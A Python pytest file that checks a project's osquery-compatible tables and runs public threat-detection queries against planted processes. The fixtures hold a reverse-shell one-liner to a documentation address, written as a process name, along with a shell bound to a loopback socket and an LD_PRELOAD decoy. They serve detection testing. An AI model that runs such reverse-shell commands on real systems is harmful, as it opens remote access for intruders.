"""What is osquery's is as osquery has it: the columns of its tables, and what its users ask of them."""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from sqlports import Engine, registry

# osquery's own columns by table, in its order: name, type or 'hidden', collation, 'required'.
COLUMNS: dict[str, list[tuple[str, ...]]] = {}
for line in (Path(__file__).parent / "osquery" / "columns.tsv").read_text().splitlines():
    table, *column = line.split("\t")
    COLUMNS.setdefault(table, []).append((*column, *[""] * (4 - len(column))))

# osquery's schema and public queries, which are not this project's: beside the checkout, or where the environment says.
MATERIAL = Path(os.environ.get("SQLPORTS_COMPAT", Path(__file__).parents[2] / "shared" / "compat"))
QUERIES = (
    [json.loads(line) for line in (MATERIAL / "queries.jsonl").read_text().splitlines()]
    if (MATERIAL / "queries.jsonl").is_file()
    else []
)
# Tables of events, which nobody records here.
EVENTS = {"process_events", "socket_events"}
# Tables that are not there yet, as docs/osquery.md says.
NOT_YET = {
    *("arp_cache", "authorized_keys", "crontab", "dns_resolvers", "docker_container_ports", "docker_container_processes"),
    *("docker_containers", "etc_hosts", "etc_protocols", "etc_services", "hosts", "interface_addresses", "interface_details"),
    *("iptables", "last", "magic", "mounts", "os_version", "routes", "shell_history", "suid_bin", "systemd_units", "yara"),
    "yara_file",
}
# Views, whose columns have no declared types.
VIEWS = {"listening_ports", "process_open_sockets"}
TABLES = [name for name in COLUMNS if name not in NOT_YET | VIEWS]


@pytest.fixture(scope="module")
def osquery() -> Iterator[Engine]:
    with Engine(osquery=True) as engine:
        yield engine


def shape(engine: Engine, name: str) -> list[tuple[str, str]]:
    """The columns that SQLite is told of, with their types; 'hidden' for a hidden one's."""
    return [(row["name"], "hidden" if row["hidden"] else row["type"]) for row in engine.query(f"PRAGMA table_xinfo({name})")]


@pytest.mark.parametrize("name", TABLES)
def test_columns_are_osquerys_by_name_type_order_and_what_is_hidden(name: str, osquery: Engine) -> None:
    theirs = [(column[0], column[1]) for column in COLUMNS[name]]
    assert [column for column in shape(osquery, name) if column in theirs or column[1] != "hidden"] == theirs


@pytest.mark.parametrize("name", TABLES)
def test_our_own_shell_has_them_first_and_what_it_adds_behind_them(name: str, engine: Engine) -> None:
    theirs = [(column[0], column[1]) for column in COLUMNS[name] if column[1] != "hidden"]
    found = shape(engine, name)
    assert found[: len(theirs)] == theirs
    hidden = {column[0] for column in COLUMNS[name] if column[1] == "hidden"}
    assert hidden <= {column for column, kind in found if kind == "hidden"}


@pytest.mark.parametrize("name", TABLES)
def test_collations_and_what_a_query_must_give_are_osquerys(name: str) -> None:
    table = registry.table(name)
    theirs = {column[0]: column[2].upper() for column in COLUMNS[name] if column[2]}
    assert {column.name: (column.collate or "").upper() for column in table.columns if column.collate} == theirs
    assert table.needed == {column[0] for column in COLUMNS[name] if column[3]}


def test_every_table_that_says_it_is_osquerys_is_one_of_these() -> None:
    assert {name for name in registry.table_names() if registry.table(name).osquery} == set(TABLES)
    assert not NOT_YET & {*registry.table_names(), *registry.view_names()}


def test_the_page_for_who_comes_from_osquery_names_them_all() -> None:
    page = (Path(__file__).parent.parent / "docs" / "osquery.md").read_text()
    there, _, rest = page.partition("Not there yet:")
    assert {name for name in TABLES if f"`{name}`" not in there} == set()
    assert {name for name in NOT_YET - {"hosts"} if f"`{name}`" not in rest.partition("Left out")[0]} == set()


@pytest.mark.skipif(not QUERIES, reason="osquery's schema is not at hand")
def test_the_columns_held_here_are_those_of_its_schema() -> None:
    schema = json.loads((MATERIAL / "osquery_schema.json").read_text())
    for name, table in schema.items():
        if name in EVENTS:
            continue
        for called in (name, *table["aliases"]):
            found = COLUMNS[called]
            assert [[column[0], column[1]] for column in found if column[1] != "hidden"] == table["columns"], called
            assert [column[0] for column in found if column[1] == "hidden"] == table["hidden"], called
            assert {column[0] for column in found if column[3]} == set(table["required"]), called
            assert {column[0]: column[2] for column in found if column[2]} == table["collate"], called


class Planted(NamedTuple):
    """What was put there to be found: process ids by what is odd of them, ports, and an open file."""

    pids: dict[str, int]
    listening: int
    connected: int
    file: str


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Planted]:
    place = tmp_path_factory.mktemp("planted")
    sleep = shutil.which("sleep") or pytest.skip("no sleep(1)")
    running: dict[str, subprocess.Popen[bytes]] = {}

    def run(name: str, *arguments: str, executable: str = sleep, **more: Any) -> None:
        running[name] = subprocess.Popen(
            arguments, executable=executable, stderr=more.pop("stderr", subprocess.DEVNULL), start_new_session=True, **more
        )

    def copied(name: str) -> str:
        return shutil.copy(sleep, place / name)

    with socket.create_server(("0.0.0.0", 0)) as server, (place / "held open").open("w") as file:
        client = socket.create_connection(("127.0.0.1", server.getsockname()[1]))
        end, _ = server.accept()
        try:
            run("shell", "sh", executable=shutil.which("sh") or "/bin/sh", stdin=client, stdout=client, stderr=client)
            run("deleted", "deleted", "600", executable=copied("deleted"))
            (place / "deleted").unlink()
            run("preload", "sleep", "600", env={"LD_PRELOAD": "/nowhere/planted.so"})
            run("nmap", "nmap", "600")
            run("typed", "/bin/bash -i >& /dev/tcp/192.0.2.1/9", "600")
            for name in ("clamd", "freshclam"):
                run(name, name, "600", executable=copied(name))
            pids = {name: process.pid for name, process in running.items()} | {"here": os.getpid()}
            yield Planted(pids, server.getsockname()[1], client.getpeername()[1], file.name)
        finally:
            for process in running.values():
                process.send_signal(signal.SIGKILL)
                process.wait()
            client.close()
            end.close()


Row = dict[str, Any]


def process(name: str) -> Callable[[Row, Planted], bool]:
    """A row about the process that was planted under this name."""
    return lambda row, planted: row["pid"] == planted.pids[name]


def listener(row: Row, planted: Planted) -> bool:
    return (row.get("pid", planted.pids["here"]), row["port"]) == (planted.pids["here"], planted.listening)


def shell(row: Row, planted: Planted) -> bool:
    """The shell at the other end of a connection, and who started it."""
    started_by = Path("/proc/self/cmdline").read_bytes().rstrip(b"\0").replace(b"\0", b" ").decode()
    return (row["pid"], row["parent"], row["remote_port"], row["parent_cmdline"]) == (
        planted.pids["shell"],
        planted.pids["here"],
        planted.connected,
        started_by,
    )


# What a row of a query's answer has of the planted, by source and name.
FOUND: dict[tuple[str, str], Callable[[Row, Planted], bool]] = {
    ("osquery", "open_sockets"): lambda row, planted: (
        (row["pid"], row["remote_port"]) == (planted.pids["shell"], planted.connected)
    ),
    ("osquery", "open_files"): lambda row, planted: (row["pid"], row["path"]) == (planted.pids["here"], planted.file),
    ("osquery", "process_env"): lambda row, planted: (
        row == {"pid": planted.pids["preload"], "key": "LD_PRELOAD", "value": "/nowhere/planted.so"}
    ),
    ("osquery", "listening_ports"): listener,
    ("osquery", "process_memory"): process("deleted"),
    ("osquery", "osquery_info"): process("here"),
    ("palantir", "behavioral_reverse_shell"): shell,
    ("palantir", "ld_preload"): process("preload"),
    ("palantir", "listening_ports"): listener,
    ("palantir", "processes_snapshot"): lambda row, planted: row["name"] == "deleted" and row["on_disk"] == 0,
    ("teoseller", "linux_sudoers_shell"): process("typed"),
    ("teoseller", "linux_process_listening_lort"): listener,
    ("teoseller", "linux_process_open_sockets"): lambda row, planted: row["remote_port"] == planted.connected,
    ("teoseller", "linux_shell_check"): shell,
    ("teoseller", "system_running_processes"): process("nmap"),
    ("fleetdm", "Get dynamic linker hijacking on Linux (MITRE. T1574.006)"): process("preload"),
    ("fleetdm", "Get Nmap scanner"): process("nmap"),
    ("fleetdm", "Get processes that no longer exist on disk"): process("deleted"),
    ("fleetdm", "Get all listening ports, by process"): listener,
    ("fleetdm", "Get antivirus (ClamAV/clamd) and updater (freshclam) process status"): process("freshclam"),
    ("fleetdm", "Antivirus healthy (Linux)"): lambda row, planted: row == {"score": 1},
    ("fleetdm", "processes"): process("deleted"),
}


def named(query: dict[str, Any]) -> tuple[str, str]:
    return query["source"].split("/")[0], query["name"]


@pytest.mark.linux
@pytest.mark.parametrize("dialect", [False, True], ids=["ours", "osquery's"])
@pytest.mark.parametrize("query", QUERIES, ids=lambda query: "-".join(named(query)))
def test_a_public_query_runs_as_it_is_and_finds_what_is_there(
    query: dict[str, Any], dialect: bool, planted: Planted, tmp_path: Path
) -> None:
    # What reads all files of /tmp or /home is let loose on others than this machine's.
    root = str(tmp_path) if "hash" in query["tables"] else "/"
    if missing := NOT_YET.intersection(query["tables"]):
        pytest.skip(f"not there yet: {', '.join(sorted(missing))}")
    for name in ("tmp/.hidden/file", "home/ann/.profile", "root/.hidden", "var/www/.x/y"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(name)
    with Engine(root=root, osquery=dialect, timeout=120) as engine:
        rows = engine.query(query["sql"])
        found = FOUND.get(named(query))
        assert found is None or any(found(row, planted) for row in rows)


@pytest.mark.skipif(not QUERIES, reason="osquery's queries are not at hand")
def test_every_query_that_is_said_to_find_something_is_there() -> None:
    assert set(FOUND) <= {named(query) for query in QUERIES}
